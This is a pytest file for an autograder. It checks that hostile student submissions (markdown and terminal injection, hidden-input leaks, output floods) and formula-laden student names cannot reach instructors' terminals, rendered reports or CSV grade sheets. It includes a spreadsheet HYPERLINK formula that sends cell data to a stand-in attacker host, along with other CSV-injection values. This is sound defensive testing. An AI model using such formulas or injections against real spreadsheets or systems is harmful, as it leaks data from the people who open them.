"""What people read around a grade is safe and true, end to end (docs/threat-model.md, "What people read").

Five attacks of examples/hostile/ go through run_autograder, `grade` and `batch`, with bubblewrap
and without, each graded once per layer (module fixtures) and checked by every test here:

- diagnostic_channel: turns the likely cause shown before the due date on and off with a bit of a
  hidden input; the early view must be the same under every submission id;
- hidden_text: prints and raises its inputs; no hidden test may show them;
- markdown_injection: headings, images, links and HTML in every text it controls; none may render
  outside code (rendered with a CommonMark parser);
- terminal_injection: escape sequences; none may reach the terminal;
- huge_output: floods every output past the worker's caps; results.json stays under 1 MB.

The batch also carries students whose names are spreadsheet formulas, and writes where others
could look: its CSV cells are text, its files the instructor's alone.
"""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import stat
import subprocess
import sys
from dataclasses import replace

import numpy as np
import pytest
from markdown_it import MarkdownIt

from autograder.config import load_config
from autograder.diagnosis import diagnoser_for
from autograder.grading.grade import grade_submission
from autograder.grading.hidden import hidden_bases, relabel
from autograder.grading.results import MAX_RESULTS_BYTES
from autograder.instructor.bundle import copy_grading_files
from reference import two_layer_net as reference

from .conftest import EXAMPLES, REPO, run_autograder

HOSTILE = REPO / "examples" / "hostile"
HONEST = EXAMPLES / "correct" / "two_layer_net.py"
ATTACKS = ["diagnostic_channel", "hidden_text", "markdown_injection", "terminal_injection", "huge_output"]
CHANNEL_IDS = ["1", "2", "3", "4", "5", "6"]  # submission ids the diagnostic channel is graded under
# what a terminal must never receive from student code: C0 controls but newline and tab, DEL, C1 controls
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
FORMULA_NAMES = {"7001": '=HYPERLINK("https://evil.example/?"&A1,"Grades")', "7002": "@SUM(A1:A9)",
                 "7003": "+1+1", "7004": "-2+3", "7005": "\tTab", "7006": "Ada\r\nLovelace"}


@pytest.fixture(scope="module", params=["off", "auto"])
def layer(request):
    if request.param == "auto" and shutil.which("bwrap") is None:
        pytest.skip("bubblewrap (bwrap) is not installed")
    return request.param


@pytest.fixture(scope="module")
def source(layer, tmp_path_factory):
    """The grader's source as Gradescope unpacks it, with bubblewrap on or off."""
    text = (REPO / "grading.toml").read_text()
    assert 'bubblewrap = "auto"' in text
    return copy_grading_files(tmp_path_factory.mktemp(f"source-{layer}"),
                              text.replace('bubblewrap = "auto"', f'bubblewrap = "{layer}"'))


@pytest.fixture(scope="module")
def uploads(tmp_path_factory):
    """{attack: an upload folder}: the attack as two_layer_net.py, the correct example as honest.py."""
    folders = {}
    for attack in ATTACKS:
        folder = tmp_path_factory.mktemp(attack)
        shutil.copy(HOSTILE / f"{attack}.py", folder / "two_layer_net.py")
        shutil.copy(HONEST, folder / "honest.py")
        folders[attack] = folder
    return folders


@pytest.fixture(scope="module")
def gradescope_runs(source, runtime, uploads, tmp_path_factory):
    """{(attack, submission id): Run} through run_autograder, as root, with the runtime setup.sh made."""
    runs = {}
    for attack, folder in uploads.items():
        for sid in CHANNEL_IDS[:3] if attack == "diagnostic_channel" else ["1"]:
            root = tmp_path_factory.mktemp(f"root-{attack}-{sid}")
            runs[attack, sid] = run_autograder(root, folder, source=source, python=str(runtime / "venv/bin/python"),
                                               metadata={"id": int(sid)})
            runs[attack, sid].size = (root / "results" / "results.json").stat().st_size
    return runs


@pytest.fixture(scope="module")
def class_batch(source, runtime, uploads, tmp_path_factory):
    """(out folder, the batch's run): an export of every attack (the channel under every id of
    CHANNEL_IDS, as 10<id>) and of correct uploads by students whose names are formulas."""
    export = tmp_path_factory.mktemp("export")
    entries = {f"10{sid}": uploads["diagnostic_channel"] for sid in CHANNEL_IDS}
    entries.update({f"20{i}": uploads[a] for i, a in enumerate(ATTACKS[1:])})
    entries.update({sid: EXAMPLES / "correct" for sid in FORMULA_NAMES})
    lines = []
    for sid, folder in entries.items():
        shutil.copytree(folder, export / f"submission_{sid}")
        name = json.dumps(FORMULA_NAMES.get(sid, f"Student {sid}"))
        lines += [f"submission_{sid}:", "  :submitters:", f"  - :name: {name}", f"    :sid: {json.dumps('=1+' + sid)}",
                  f"    :email: {json.dumps('@' + sid + '@uni.edu')}"]
    (export / "submission_metadata.yml").write_text("\n".join(lines) + "\n")
    out = tmp_path_factory.mktemp("batch") / "out"
    os.chmod(out.parent, 0o755)  # where anyone could look: only the batch's own modes protect it
    proc = subprocess.run([str(runtime / "venv/bin/python"), "-m", "autograder", "batch", str(export), "--out",
                           str(out), "-j", "2", "--config", str(source / "grading.toml")], cwd=source,
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 0, proc.stderr
    return out, proc


def early_view(results: dict) -> str:
    """What a student sees before the due date: the summary and the tests visible now (as JSON)."""
    return json.dumps([results["output"], [(t["name"], t["score"], t["output"]) for t in results["tests"]
                                           if t["visibility"] == "visible"]])


def hidden_bits(secret: str, ids: list[str]) -> set[bool]:
    """The bit diagnostic_channel.py reads on the first hidden case, under each id."""
    bits = set()
    for sid in ids:
        inputs = relabel(hidden_bases(secret, 4), secret, sid)[0].inputs
        y_hat = reference.forward(inputs.x, *inputs.params)["y_hat"]
        bits.add(bool(np.ravel(y_hat)[0] > np.ravel(inputs.y)[0]))
    return bits


def test_the_early_view_never_depends_on_a_hidden_input(gradescope_runs, class_batch, source):
    """The channel's bit differs between these ids; what is shown before the due date does not."""
    secret = load_config(source / "grading.toml").secret
    assert hidden_bits(secret, CHANNEL_IDS[:3]) == {True, False}  # (else this test could not fail)
    assert hidden_bits(secret, CHANNEL_IDS) == {True, False}
    views = {early_view(gradescope_runs["diagnostic_channel", sid].results) for sid in CHANNEL_IDS[:3]}
    out, _ = class_batch
    views |= {early_view(json.loads((out / "results" / f"10{sid}.json").read_text())) for sid in CHANNEL_IDS}
    assert len(views) == 1
    summary, _ = json.loads(views.pop())
    assert "(likely: mean instead of sum)" in summary  # the cause is shown, the same for everyone


def test_no_hidden_test_shows_student_text(gradescope_runs, class_batch):
    results = gradescope_runs["hidden_text", "1"].results
    loss = [t for t in results["tests"] if t["tags"] == ["loss"]]
    visible, hidden = [t for t in loss if "visible" in t["name"]], [t for t in loss if "hidden" in t["name"]]
    assert "LEAKED-" in visible[0]["output"]  # the student's own visible inputs: shown, as code
    assert hidden and all("LEAK" not in t["output"] for t in hidden)
    assert "mse_loss raised an exception" in hidden[0]["output"]  # the kind of failure, in our words
    out, _ = class_batch
    documents = [run.results for run in gradescope_runs.values()]
    documents += [json.loads(p.read_text()) for p in (out / "results").glob("*.json")]
    for results in documents:  # no attack's hidden test carries its text
        for t in results["tests"]:
            if "hidden" in t["name"]:
                assert not re.search(r"LEAK|PWNED|\\x1b|\x1b|\U0001F600", t["output"]), t["output"][:300]


def rendered_outside_code(markdown: str) -> list[str]:
    """What a CommonMark renderer makes of `markdown` outside code: the kinds of elements that
    student text must never become, and the text of every element but code."""
    found = []
    for token in MarkdownIt("commonmark").parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in ("image", "link_open", "html_inline", "html_block", "heading_open", "blockquote_open",
                          "hr", "table_open"):
                found.append(t.type)
            elif t.type in ("text", "inline") and not t.children:
                found.append(t.content)
    return found


def test_no_student_text_renders_as_markdown(gradescope_runs, class_batch):
    out, _ = class_batch
    documents = [run.results for run in gradescope_runs.values()]
    documents += [json.loads(p.read_text()) for p in (out / "results").glob("*.json")]
    code_seen = False
    for results in documents:
        for t in results["tests"]:
            assert t["output_format"] == "md"
            outside = rendered_outside_code(t["output"])
            assert not [x for x in outside if x in ("image", "link_open", "html_inline", "html_block",
                                                    "heading_open", "blockquote_open", "hr", "table_open")], outside
            assert not [x for x in outside if "PWNED" in x or "LEAK" in x], outside
            code_seen |= "PWNED" in t["output"]
    assert code_seen  # the payload is there, as code


def test_results_json_stays_under_its_byte_budget(gradescope_runs, class_batch):
    out, _ = class_batch
    sizes = [run.size for run in gradescope_runs.values()] + [p.stat().st_size for p in (out / "results").iterdir()]
    assert max(sizes) <= MAX_RESULTS_BYTES
    flood = gradescope_runs["huge_output", "1"]
    assert flood.size > MAX_RESULTS_BYTES // 2  # it was cut to the budget, not far below it
    assert "results.json is limited to 1 MB" in json.dumps(flood.results)
    assert flood.results["score"] == 19


def grade(runtime, source, upload, *options) -> subprocess.CompletedProcess:
    return subprocess.run([str(runtime / "venv/bin/python"), "-m", "autograder", "grade", str(upload),
                           "--config", str(source / "grading.toml"), *options], cwd=source, capture_output=True,
                          text=True, timeout=300)


@pytest.mark.parametrize("options", [(), ("-v", "--staff", "--submission-id", "7")])
def test_no_control_character_reaches_the_terminal(runtime, source, uploads, options, class_batch):
    for attack in ("terminal_injection", "markdown_injection", "hidden_text"):
        proc = grade(runtime, source, uploads[attack], *options)
        assert proc.returncode == 0, proc.stderr
        assert not CONTROL.search(proc.stdout + proc.stderr), CONTROL.findall(proc.stdout + proc.stderr)
        assert re.search(r"^Total .* 19 / 20\s*$", proc.stdout, re.M)  # the real table is there
        if attack == "terminal_injection":  # what it printed is shown, made visible
            assert "\\x1b[2J\\x1b[3J" in proc.stdout
    _, batch = class_batch
    assert not CONTROL.search(batch.stdout + batch.stderr)


def test_no_control_character_reaches_gradescopes_log(gradescope_runs):
    """run_autograder's stdout and stderr, which Gradescope shows instructors."""
    for run in gradescope_runs.values():
        assert not CONTROL.search(run.log), CONTROL.findall(run.log)


def test_the_staff_view_shows_what_the_hidden_tests_do_not(runtime, source, uploads):
    proc = grade(runtime, source, uploads["hidden_text"], "--staff", "--submission-id", "7")
    hidden = proc.stdout.split("Hidden cases, as graded for this submission id (staff only):")[1]
    assert "LEAKED-" in hidden  # staff see what the code printed and said on hidden cases


def test_no_csv_cell_is_a_formula(class_batch):
    out, _ = class_batch
    with open(out / "grades.csv", newline="", encoding="utf-8-sig") as f:
        rows = list(csv.reader(f))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not [c for c in cells if re.search("[\x00-\x1f]", c)]
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["7001"] == "'" + FORMULA_NAMES["7001"] and names["7006"] == "Ada\\x0d\\x0aLovelace"


def test_a_batchs_output_is_its_owners_alone(class_batch):
    out, _ = class_batch
    assert stat.S_IMODE(out.stat().st_mode) == 0o700
    assert stat.S_IMODE((out / "results").stat().st_mode) == 0o700
    files = [out / "grades.csv", out / "report.html", *(out / "results").iterdir()]
    assert {stat.S_IMODE(p.stat().st_mode) for p in files} == {0o600}
    if os.geteuid() == 0:  # another user (a sandbox user, say) reads none of it
        for path in (out / "grades.csv", out / "results" / "1001.json"):
            proc = subprocess.run(["runuser", "-u", "nobody", "--", "cat", str(path)], capture_output=True)
            assert proc.returncode != 0 and b"Permission denied" in proc.stderr


def test_an_output_folder_inside_the_input_is_left_out(tmp_path):
    """A TA's `batch submissions --out submissions/graded`, run twice: the output is never a student."""
    submissions = tmp_path / "submissions"
    shutil.copytree(EXAMPLES / "correct", submissions / "ada")
    for _ in range(2):
        proc = subprocess.run([sys.executable, "-m", "autograder", "batch", str(submissions),
                               "--out", str(submissions / "graded"), "-j", "1"], cwd=REPO, capture_output=True,
                              text=True, timeout=300)
        assert proc.returncode == 0, proc.stderr
        with open(submissions / "graded" / "grades.csv", newline="", encoding="utf-8-sig") as f:
            assert [r["submission_id"] for r in csv.DictReader(f)] == ["ada"]
    assert "the batch's own output folder (--out)" in proc.stderr


HANG_IN_DIAGNOSTICS = '''
import os, time
from honest import *
import honest

def mse_loss(y_hat, y):
    # a count that survives the worker restarts a timeout causes
    path = os.path.join(os.environ["TMPDIR"], "calls")
    n = int(open(path).read()) + 1 if os.path.exists(path) else 1
    open(path, "w").write(str(n))
    if n <= 12:  # the visible cases: divided by k, so the part fails and is diagnosed
        return honest.mse_loss(y_hat, y) / len(y)
    if n <= 14:  # the first two diagnostic calls: hang past the call's time limit
        time.sleep(60)
    return honest.mse_loss(y_hat, y)  # the rest, hidden cases included: right
'''


@pytest.mark.slow
def test_the_diagnostic_calls_cost_the_hidden_cases_nothing(tmp_path):
    """Two timeouts in the diagnostic calls would skip a function's remaining calls: they are not
    counted against the hidden cases, which run after them and earn their points."""
    upload = tmp_path / "upload"
    upload.mkdir()
    (upload / "two_layer_net.py").write_text(HANG_IN_DIAGNOSTICS)
    shutil.copy(HONEST, upload / "honest.py")
    config = load_config()  # (calls stopped sooner: each sleep waits out the wall-clock limit)
    report = grade_submission(upload, replace(config, limits=replace(config.limits, call_timeout=0.5)),
                              diagnoser=diagnoser_for)
    loss = {t.hidden: t for t in report.tests if t.part == "loss"}
    assert loss[True].cases_passed == "4/4"
    assert loss[False].cases_passed == "3/12"  # (mean and sum agree where k = 1 or y_hat = y)
